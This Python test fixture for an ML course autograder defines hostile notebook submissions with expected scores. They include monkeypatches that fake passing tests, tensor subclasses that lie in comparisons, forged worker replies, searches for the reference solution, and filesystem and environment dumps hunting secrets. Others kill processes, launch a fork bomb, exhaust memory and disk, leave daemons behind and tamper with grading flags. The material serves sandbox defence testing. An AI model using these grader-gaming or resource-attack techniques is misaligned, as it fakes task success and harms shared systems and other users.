"""The hostile class: submissions that attack the grader, each with the score it fairly earns.

Graded once, in lab 01's demo class (grading/demo_submissions.py adds them to ``GRADER_CASES``),
because the grader's defences do not depend on the lab. Every case starts from the lab's solution
and adds its attack; ``EXPECTED`` is what it must score, part by part. The categories:

- the grader and its comparisons: in-process patches (``torch.allclose``, pytest, ``print``, IPython's
  hooks, a torch function mode), results that lie (a tensor subclass, an object posing as a tensor),
  a worker whose answers are forged;
- the reference: every way to reach the library's attention (reload, ``getsource``, another copy on
  disk, PyTorch's fused attention through any door, the sandbox's own forwarding);
- other students and the output: writing files, killing processes, daemons that outlive the cell, a
  fork bomb, memory and disk filled, the network;
- leaks: the environment, the home folder, hidden tests on disk, printed into the notebook;
- careless work: a 20 MB output line, a thread writing to stderr throughout, tampered nbgrader flags,
  a byte-order mark.

(Broken archives and two students of one name are about the zip, not the notebook:
demo_submissions.write_zip makes them.) tests/test_autograde.py also checks, after the class is
graded, that no marker file any case tried to write exists outside its sandbox, that no process
any case started is still running, and that no feedback page holds the canaries the test planted
in the grader's environment and home.
"""

MARKER = "effml-pwned"  # every file an attack tries to write is named with this
DAEMON = "effml-hostile-daemon"  # and every process it leaves behind carries this in its command line
CANARY_ENV = "EFFML_GRADER_SECRET"  # the test sets this in the grader's environment ...
CANARY_FILE = "effml-grader-secret.txt"  # ... and puts this file, holding the same secret, in its HOME

FULL = {"p1_tests": 3, "p2_tests": 2, "p3_tests": 2, "p4_tests": 3, "p5_tests": 2}

# -- the grader and its comparisons ----------------------------------------------------------------

PATCHES_THE_GRADER = '''
import builtins, sys, types
import torch
from torch.overrides import TorchFunctionMode

def rms_norm(x, weight, eps=1e-5):  # wrong: no normalisation at all
    return x * weight

# Everything a grader running in this process would lean on, made to say "equal" or "passed".
always = lambda *a, **k: True
torch.allclose = torch.isclose = torch.equal = always
torch.testing.assert_close = lambda *a, **k: None
fake_pytest = types.ModuleType("pytest")
fake_pytest.main = lambda *a, **k: 0
sys.modules["pytest"] = fake_pytest
builtins.print = lambda *a, **k: sys.__stdout__.write("3 of 3 hidden tests passed\\n")
sys.excepthook = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None

class Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("isclose", "allclose", "equal", "eq"):
            return torch.tensor(True)
        return func(*args, **(kwargs or {}))

Agree().__enter__()
'''

LYING_RESULTS = '''
import torch

class Liar(torch.Tensor):  # zeros that claim to equal anything
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("isclose", "allclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def attention(q, k, v, causal=True, mask=None):
    return torch.zeros_like(q).as_subclass(Liar)

class PosesAsATensor:  # shape, dtype and comparisons of a right answer, and no data
    def __init__(self, like): self.shape, self.dtype = like.shape, like.dtype
    def double(self): return self
    def __eq__(self, other): return True
    def __sub__(self, other): return self
    def abs(self): return self
    def max(self): return self
    def item(self): return 0.0

def swiglu(x, w1, w2, w3):
    return PosesAsATensor(x)
'''

FORGES_THE_CHANNEL = '''
import gc, os

# Find the sandbox's worker and make every call of the grader's answer with the first argument,
# then write rubbish straight onto the channel's descriptor for good measure.
worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
real_answer = worker.answer
def forged(request):
    if request.get("op") in ("call", "batch"):
        if request["op"] == "batch":
            return {"results": [args[0] for args, kwargs in request["calls"]]}
        return {"value": request.get("args", [None])[0], "after": []}
    return real_answer(request)
worker.answer = forged
'''

CHANGES_THE_INPUTS = '''
import torch

def rms_norm(x, weight, eps=1e-5):  # make the test's inputs trivial, then give the trivial answer
    x.fill_(1.0)
    weight.fill_(1.0)
    return torch.full_like(x, (1 + eps) ** -0.5)
'''

# -- the reference ---------------------------------------------------------------------------------

HUNTS_THE_REFERENCE = '''
import gc, importlib, inspect, os, sys
import torch
import torch.nn.functional as F
import effml_lib, effml_lib.attention

def _attempts(q, k, v):
    """Each way to the library's (or PyTorch's) attention; yields whatever answers."""
    def reloaded():
        return importlib.reload(effml_lib.attention).attention(q, k, v)
    def from_source():
        namespace = {}
        exec(inspect.getsource(effml_lib.attention), namespace)
        return namespace["attention"](q, k, v)
    def another_copy():
        for path in OTHER_COPIES:
            spec = importlib.util.spec_from_file_location("stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.attention_reference(q, k, v)
        raise LookupError("no other copy")
    def forwarded():
        from effml_lib import _hidden
        return _hidden.call("attention.attention_reference", {"q": q, "k": k, "v": v, "causal": True, "mask": None})
    def pytorch_fused():
        tq, tk = q.shape[2], k.shape[2]
        mask = torch.ones(tq, tk, dtype=torch.bool).tril(tk - tq)
        return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)
    def aten_kernel():
        tq, tk = q.shape[2], k.shape[2]
        mask = torch.ones(tq, tk, dtype=torch.bool).tril(tk - tq)
        return torch.ops.aten._scaled_dot_product_attention_math(q, k, v, attn_mask=mask)[0]
    def unban():
        import torch.library
        for o in gc.get_objects():
            if isinstance(o, torch.library.Library):
                o._destroy()
        return pytorch_fused()
    def compiled():  # tried once (compiling is slow), not on every call
        if TRIED_COMPILE:
            raise RuntimeError("tried")
        TRIED_COMPILE.append(True)
        return torch.compile(effml_lib.attention.attention)(q, k, v)
    for attempt in (reloaded, from_source, another_copy, forwarded, pytorch_fused, aten_kernel, unban, compiled):
        try:
            out = attempt()
        except BaseException:
            continue
        if isinstance(out, torch.Tensor) and out.shape == q.shape:
            return out
    raise RuntimeError("no way to the reference")

TRIED_COMPILE = []
# Looked for once: any attention.py of another copy of the library, anywhere on this disk.
OTHER_COPIES = []
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
    elif "attention.py" in files and root.endswith("effml_lib") and not root.startswith("/effml/lib"):
        OTHER_COPIES.append(os.path.join(root, "attention.py"))
print("OTHER COPIES:", OTHER_COPIES)

def attention(q, k, v, causal=True, mask=None):
    return _attempts(q, k, v)
'''

# -- other students, the output, resources: an extra cell at the end of the notebook -----------------

LOOKS_AROUND = f'''
import os, socket, sys

found = []
for root, dirs, files in os.walk("/"):  # anything of the grader's or the class's within reach?
    python = os.path.dirname(os.path.dirname(sys.executable))
    if root.startswith(("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, python)):  # not Python's own files
        dirs[:] = []
        continue
    for name in files:
        if name in ("grades.csv", "gradebook.db", "{CANARY_FILE}", "submissions.zip") or name.endswith(".html") \\
                or (name.startswith("test_") and name.endswith(".py")):
            found.append(os.path.join(root, name))
print("FOUND:", found[:50])
for path in found[:20]:
    try:
        print(open(path, errors="replace").read()[:2000])
    except OSError as error:
        print(path, error)
print("ENVIRONMENT:", dict(os.environ))
print("HOME:", os.listdir(os.path.expanduser("~")))

written = []
for folder in ["/tmp", os.path.expanduser("~"), "/", "/work", "/root", "/effml/lib", os.getcwd(),
               *{{os.path.dirname(p) for p in found}}]:
    try:
        with open(os.path.join(folder, "{MARKER}.txt"), "w") as f:
            f.write("written by a hostile submission")
        written.append(folder)
    except OSError:
        pass
print("WROTE IN:", written)

try:
    socket.create_connection(("1.1.1.1", 80), timeout=2)
    print("NETWORK: reached")
except OSError as error:
    print("NETWORK:", type(error).__name__)
'''

BREAKS_THINGS = f'''
import os, signal, subprocess, sys, time

for pid in range(2, 300):  # anything to kill besides ourselves (the grader, another student)?
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

# A daemon that outlives this cell and tries to write, for a minute, wherever it can.
daemon = "import os, time\\nfor i in range(60):\\n    for d in ('/tmp', '/work', '/root'):\\n        try: open(os.path.join(d, '{MARKER}-' + str(i)), 'w').write('late')\\n        except OSError: pass\\n    time.sleep(1)"
subprocess.Popen([sys.executable, "-c", daemon, "{DAEMON}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

children = 0  # a fork bomb, bounded only by the sandbox
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped after", children, error)

hoard = []  # memory
try:
    for _ in range(64):
        hoard.append(bytearray(1 << 30))
except MemoryError:
    print("memory stopped after", len(hoard), "GiB")
del hoard

try:  # disk
    with open("/tmp/fill", "wb") as f:
        for _ in range(4096):
            f.write(b"0" * (1 << 20))
except OSError as error:
    print("disk:", error)
os.remove("/tmp/fill")

os.kill(1, signal.SIGKILL)  # and last the sandbox's first process: this cell is all that costs
'''

# -- careless work -------------------------------------------------------------------------------------

FLOODS_OUTPUT = '''
import sys, threading, time

def progress():  # a progress bar that never stops writing to stderr, through the hidden tests too
    i = 0
    while True:
        i += 1
        print(f"\\rprogress {i}", end="", file=sys.stderr, flush=True)
        time.sleep(0.002)

threading.Thread(target=progress, daemon=True).start()
print("x" * (20 * 2**20))  # one 20 MB line
for i in range(5000):
    print("line", i)
'''


CASES = ("patches_the_grader", "lying_results", "changes_the_inputs", "forges_the_channel", "hunts_the_reference", "attacks_others",
         "floods_output", "tampered_flags")
# What each must score: the parts its attack replaced the work of score zero; an attack beside a
# correct solution costs nothing.
EXPECTED = {
    "patches_the_grader": {**FULL, "p2_tests": 0, "p4_tests": 0},  # rms_norm is wrong; the block uses it
    "lying_results": {**FULL, "p1_tests": 0, "p3_tests": 0, "p4_tests": 0, "p5_tests": 0},
    "changes_the_inputs": {**FULL, "p2_tests": 0, "p4_tests": 0},  # a changed input fails the test, not the reference
    "forges_the_channel": dict.fromkeys(FULL, 0),  # every answer forged, so every part is wrong
    "hunts_the_reference": {**FULL, "p1_tests": 0, "p4_tests": 0, "p5_tests": 0},  # no way found
    "attacks_others": FULL,  # two extra cells: one looks around (and finds nothing), one is lost
    "floods_output": FULL,
    "tampered_flags": FULL,  # restored from the release
}


def cases(filled, release_cell, add_cell, solution_code):
    """student -> (notebook, expected points per graded cell). ``filled(changes)`` is the solution
    with some answers replaced; ``add_cell(nb, source)`` appends a code cell; ``release_cell(nb, id)``
    is a copy of one of the release's cells."""
    sol = solution_code()
    out = {}
    out["patches_the_grader"] = filled({"p2_solution": PATCHES_THE_GRADER})
    out["lying_results"] = filled({"p1_solution": LYING_RESULTS, "p3_solution": "pass"})
    out["changes_the_inputs"] = filled({"p2_solution": CHANGES_THE_INPUTS})
    nb = filled()
    add_cell(nb, FORGES_THE_CHANNEL)
    out["forges_the_channel"] = nb
    out["hunts_the_reference"] = filled({"p1_solution": HUNTS_THE_REFERENCE})
    nb = filled()
    add_cell(nb, LOOKS_AROUND)
    add_cell(nb, BREAKS_THINGS)
    out["attacks_others"] = nb
    out["floods_output"] = filled({"p1_solution": FLOODS_OUTPUT + "\n" + sol["p1_solution"]})
    nb = filled()
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "p2_tests":
            meta["grade"], meta["points"] = False, 100  # the flags nbgrader scores by, changed
        elif meta.get("grade_id") == "p3_tests":
            meta["locked"], meta["solution"] = False, True
            cell.source = "passed = 3"
        elif meta.get("grade_id") == "p1_solution":
            meta["locked"], meta["grade"] = True, True
    copy = release_cell(nb, "p4_tests")
    copy["id"] = "a-copy-of-p4-tests"
    nb.cells.append(copy)  # a second copy of a graded cell
    out["tampered_flags"] = nb
    return {student: (out[student], EXPECTED[student]) for student in CASES}
